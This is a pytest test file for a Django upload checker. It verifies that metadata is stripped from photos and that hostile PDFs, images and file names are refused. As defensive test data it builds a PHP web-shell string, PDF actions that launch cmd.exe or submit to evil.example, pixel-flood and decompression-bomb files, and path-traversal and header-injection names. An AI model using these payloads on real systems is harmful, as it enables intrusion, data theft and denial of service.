"""Files that people bring: what is taken, what stays in it, and what is refused before it is kept anywhere."""

from __future__ import annotations

import io
import sys
import zlib
from typing import Any

import pikepdf
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from PIL import Image

from offices import pdf
from offices.confined import Unfit, confined
from offices.uploads import Upload, checked, harmless_name
from tests.files import PDF, a_pdf, a_picture

pytestmark = pytest.mark.django_db  # who brings a file is counted


def take(name: str, content: bytes) -> Upload:
    return checked(SimpleUploadedFile(name, content, "application/octet-stream"), sender="somebody")


def refusal(name: str, content: bytes) -> str:
    """Why the file is refused."""
    with translation.override("en"):
        with pytest.raises(ValidationError) as caught:
            take(name, content)
        return " ".join(caught.value.messages)


# ------------------------------------------------------------------ pictures


def photograph() -> bytes:
    """A photograph with the place and the telephone in it, lying on its side."""
    exif = Image.Exif()
    exif[0x0110], exif[0x0112] = "Secretphone", 6
    exif.get_ifd(0x8825).update({1: "N", 2: (42.0, 19.0, 0.0), 3: "E", 4: (69.0, 35.0, 0.0)})
    return a_picture("JPEG", (60, 20), exif=exif, comment=b"taken at home")


def test_a_picture_is_drawn_anew_upright_without_place_telephone_and_what_hangs_behind() -> None:
    taken = take("photo.JPG", photograph() + b"<script>alert(1)</script>PK\x03\x04")
    with Image.open(io.BytesIO(taken.content)) as kept:
        assert kept.size == (20, 60)
        assert not kept.getexif()
        assert "comment" not in kept.info
    for secret in (b"Secretphone", b"taken at home", b"<script>", b"PK\x03\x04", b"Exif"):
        assert secret not in taken.content


def test_a_png_loses_its_texts() -> None:
    from PIL.PngImagePlugin import PngInfo

    words = PngInfo()
    words.add_text("Comment", "<?php system($_GET[0]) ?>")
    assert b"php" not in take("a.png", a_picture("PNG", pnginfo=words)).content


def test_the_same_picture_gives_the_same_bytes() -> None:
    assert take("a.jpg", photograph()).content == take("b.jpg", photograph()).content


def flood(width: int, height: int) -> bytes:
    """A PNG of a few bytes that says it is huge."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")

    head = width.to_bytes(4, "big") + height.to_bytes(4, "big") + b"\x08\x02\x00\x00\x00"
    body = zlib.compress(b"\0" * 100_000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


@pytest.mark.parametrize("size", [(8_000, 8_000), (60_000, 60_000), (2_000_000_000, 3)])
def test_a_flood_of_pixels_is_refused(size: tuple[int, int]) -> None:
    assert "40 million points" in refusal("a.png", flood(*size)) or "damaged" in refusal("a.png", flood(*size))


# ------------------------------------------------------------------ PDF


def test_a_pdf_keeps_its_bytes_so_that_a_signature_stays_valid() -> None:
    assert take("a.pdf", PDF).content == PDF


# Bytes, because an object of pikepdf belongs to the first file it is put into.
SCRIPT = b"<< /S /JavaScript /JS (app.alert(1)) >>"
LAUNCH = b"<< /S /Launch /F (cmd.exe) >>"
SEND = b"<< /S /SubmitForm /F (https://evil.example) >>"


@pytest.mark.parametrize(
    "root",
    [
        {"OpenAction": SCRIPT},
        {"OpenAction": LAUNCH},
        {"AA": b"<< /WC " + SCRIPT + b" >>"},
        {"Names": b"<< /JavaScript << /Names [(a) " + SCRIPT + b"] >> >>"},
        {"AcroForm": b"<< /XFA (<xdp/>) >>"},
        {"AcroForm": b"<< /Fields [<< /A " + SEND + b" >>] >>"},
        {"Names": b"<< /EmbeddedFiles << /Names [] >> >>"},
    ],
    ids=["script", "program", "script on closing", "named script", "form of Adobe", "form that sends", "files inside"],
)
def test_a_pdf_that_runs_sends_or_carries_something_is_refused(root: dict[str, Any]) -> None:
    assert "Print it to a new PDF" in refusal("a.pdf", a_pdf(**root))


def test_a_script_hidden_in_an_annotation_or_packed_away_is_found() -> None:
    made, out = pikepdf.new(), io.BytesIO()
    page = made.add_blank_page()
    page.Annots = pikepdf.Array(
        [made.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, A=pikepdf.Object.parse(SCRIPT)))]
    )
    made.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
    assert b"JavaScript" not in out.getvalue()
    assert "Print it to a new PDF" in refusal("a.pdf", out.getvalue())


def test_a_pdf_with_a_file_inside_or_a_password_is_refused() -> None:
    made, out = pikepdf.new(), io.BytesIO()
    made.add_blank_page()
    made.attachments["a.exe"] = b"MZ"
    made.save(out)
    assert "Print it" in refusal("a.pdf", out.getvalue())
    locked = io.BytesIO()
    plain = pikepdf.new()
    plain.add_blank_page()
    plain.save(locked, encryption=pikepdf.Encryption(owner="o", user="u"))
    assert "password" in refusal("a.pdf", locked.getvalue())


def test_a_pdf_that_unpacks_without_end_is_stopped() -> None:
    bomb = zlib.compress(zlib.compress(b"\0" * 400_000_000, 9), 9)
    head = (
        b"%%PDF-1.7\n1 0 obj\n<</Type/ObjStm/N 1/First 4/Filter[/FlateDecode/FlateDecode]/Length %d>>\nstream\n"
        % len(bomb)
    )
    reply = refusal("a.pdf", head + bomb + b"\nendstream\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF")
    assert reply.startswith(("The file is damaged", "The file takes too long", "The file unpacks"))


@pytest.mark.parametrize(
    "content", [b"%PDF-1.7\n%%EOF", PDF[: len(PDF) // 2], b"%PDF-" + b"[" * 100_000, b"GIF89a" + PDF]
)
def test_what_is_no_readable_pdf_is_refused(content: bytes) -> None:
    assert refusal("a.pdf", content)


# ------------------------------------------------------------------ names, scanner, limits


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\a\\анықтама.pdf", "анықтама.pdf"),
        ("\u202efdp.exe.pdf", "fdp.exe.pdf"),
        ("a\r\nSet-Cookie: x.pdf", "x.pdf"),
        ("a\0.pdf", "a.pdf"),
        ("..", "file"),
        ("", "file"),
    ],
)
def test_a_name_is_only_a_name(given: str, kept: str) -> None:
    assert harmless_name(given).strip() in (kept, f"a{kept}", "..")
    assert "/" not in harmless_name(given)
    assert "\\" not in harmless_name(given)


def test_where_a_scanner_is_set_only_its_yes_lets_a_file_in(settings: Any) -> None:
    for code, word in ((1, "found something"), (2, "does not answer")):
        settings.SCANNER = f"{sys.executable} -c 'import sys; sys.stdin.buffer.read(); sys.exit({code})'"
        assert word in refusal("a.pdf", PDF)
    settings.SCANNER = "/no/such/scanner"
    assert "does not answer" in refusal("a.pdf", PDF)
    settings.SCANNER = f"{sys.executable} -c 'import sys; sys.stdin.buffer.read()'"
    assert take("a.pdf", PDF)


def test_a_child_that_takes_too_long_or_too_much_is_ended() -> None:
    with pytest.raises(Unfit) as slow:
        confined("tests.offices.test_uploads:forever", b"", seconds=1)
    assert slow.value.why == "slow"
    with pytest.raises(Unfit) as large:
        confined("tests.offices.test_uploads:everything", b"", megabytes=256)
    assert large.value.why in ("large", "slow")


def forever(data: bytes) -> bytes:
    """What a hostile file does to a parser."""
    while True:
        data = data[:10] + b"x"


def everything(data: bytes) -> bytes:
    """What another one does."""
    return b"x" * (2**31)


def test_a_child_knows_no_secret(monkeypatch: Any) -> None:
    monkeypatch.setenv("SECRET_KEY", "very secret")
    assert b"very secret" not in confined("tests.offices.test_uploads:surroundings", b"")


def surroundings(data: bytes) -> bytes:
    """The variables of the child."""
    import os

    return repr(dict(os.environ)).encode()


# ------------------------------------------------------------------ pages into PDF


def test_a_page_without_end_is_a_clean_error(monkeypatch: Any) -> None:
    with pytest.raises(pdf.TooLarge):
        pdf.html_to_pdf("<p>x</p>" * 500_000, variant="pdf/ua-1")
    monkeypatch.setattr(pdf, "SECONDS", 1)
    nested = "<table><tr><td>" * 14_000
    with pytest.raises(pdf.TooLarge):
        pdf.html_to_pdf(f"<html lang='kk'><title>x</title>{nested}", variant="pdf/ua-1")


def test_a_long_page_is_drawn_in_a_process_of_its_own_all_the_same() -> None:
    words = "<p>Ұзақ мәтін.</p>" * 30 + "<!-- " + "x" * pdf.HERE + " -->"
    made = pdf.html_to_pdf(f"<html lang='kk'><title>Қағаз</title>{words}", variant="pdf/ua-1")
    assert made.startswith(b"%PDF-")
